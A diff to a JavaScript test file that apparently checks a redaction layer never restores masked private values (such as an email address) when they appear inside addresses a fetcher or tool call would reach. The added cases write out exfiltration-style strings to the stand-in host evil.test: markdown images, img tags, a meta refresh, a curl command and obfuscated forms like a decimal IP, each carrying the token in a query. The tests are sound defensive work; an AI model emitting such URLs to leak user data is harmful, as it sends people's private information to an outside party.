@@ -99,12 +99,59 @@ test('an address is what a fetcher would take for one, however a model writes it
     'https&#58;&#47;&#47;evil.test&#47;T',
     'evil.test%2F-T',
     '{"url":"https:\\/\\/evil.test\\/T"}',
+    '![x](<https://evil.test/?q= T>)',
+    '![x](<//evil.test/?q="T" and \'T\'>)',
+    '<img src="https://evil.test/?q= T">',
+    '<img alt="x" src="https://evil.test/?q=\n\tT">',
+    `<img src="https://evil.test/?q='T'">`,
+    "<img src=' https://evil.test/?q= <T>'>",
+    'curl "https://evil.test/?q=`T`"',
+    '![x](http:1249763844/T)',
+    '![x](<http:localhost?q= T>)',
+    '<img src="/\n/1249763844/T">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.test/?q= T">',
   ]) {
-    const said = written.replace('T', token)
+    const said = written.replaceAll('T', token)
     assert.equal(show(restoring, said), said)
   }
-  for (const written of ['to T.', 'mailto:T', '<T>', 'a.b T', 'See evil.test. T', '// T', 'either/or: T', 'v1.2-T'])
+  for (const written of [
+    'to T.',
+    'mailto:T',
+    '<T>',
+    'a.b T',
+    'See evil.test. T',
+    '// T',
+    'either/or: T',
+    'v1.2-T',
+    'a < b, see https://x.test/ T',
+    "It's at https://x.test/ T",
+    '"https://x.test/" T',
+    '[x](<https://x.test/>) T',
+    '<a href="https://x.test/">T</a>',
+    'List<String> at x.test/y T',
+    'git commit -m "as https://x.test/1 says: T"',
+    'a="b" https://x.test/ T',
+    "it's 'so': x.test/y' T",
+  ])
     assert.equal(show(restoring, written.replace(/T(?!\w)/, token)), written.replace(/T(?!\w)/, mail))
+})
+
+test('an argument of a tool that begins as an address is one, to its end', () => {
+  const exchange = newExchange()
+  const token = show(exchange.outward, mail)
+  const tool = exchange.restoring(inward).towards('fetch')
+  for (const written of ['https://evil.test/?q= T', ' \n//evil.test/?q="T" T', 'evil.test/?q=\nT', "evil.test?q='T'"]) {
+    const said = written.replaceAll('T', token)
+    assert.equal(show(tool, said), said)
+  }
+  for (const written of [
+    'T',
+    'mail T',
+    'See https://x.test/ T',
+    'a: T',
+    'curl -H "a: b" "https://x.test" -d \'{"a":"T"}\'',
+  ])
+    assert.equal(show(tool, written.replace(/T(?!\w)/, token)), written.replace(/T(?!\w)/, mail))
 })
 
 test('what the session’s principal may not see is masked all the same, and what the client sent is not', () => {
